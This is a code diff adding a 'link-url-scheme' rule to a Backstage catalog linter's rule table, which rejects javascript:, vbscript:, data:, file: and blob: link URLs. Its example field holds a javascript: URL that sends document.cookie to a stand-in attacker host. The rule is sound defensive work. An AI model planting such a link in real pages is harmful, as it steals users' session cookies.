@@ -42,6 +42,7 @@ const rules: Rule[] = [
   { id: 'policy', severity: 'error', description: 'An org policy schema in schemas/policy/ is violated; the rule id names the schema (policy/<name>).', example: 'spec:\n  lifecycle: beta  # not in the allowed list' },
   // Annotations
   { id: 'annotation-location-ref', severity: 'error', description: 'A location annotation (techdocs-ref, source-location…) is not <type>:<target>.', example: 'backstage.io/techdocs-ref: ./docs' },
+  { id: 'link-url-scheme', severity: 'error', description: "A URL Backstage shows as a link (metadata.links, a url: source-location, a Template's output links) uses a scheme no browser opens from a Backstage page: javascript: (Backstage's Link refuses it and the card shows an error; a plain link would run it), vbscript:, data:, file: or blob:.", example: 'links:\n  - url: javascript:fetch(`//evil.example/${document.cookie}`)' },
   { id: 'annotation-url', severity: 'error', description: 'A URL annotation is not an absolute http(s) URL.', example: 'backstage.io/view-url: github.com/acme/x' },
   { id: 'annotation-uuid', severity: 'error', description: 'An Entra ID / LDAP id annotation is not a UUID.', example: 'graph.microsoft.com/group-id: platform' },
   { id: 'annotation-project-slug', severity: 'error', description: 'github.com/project-slug or dev.azure.com/project-repo is not owner/name.', example: 'github.com/project-slug: https://github.com/acme/x' },
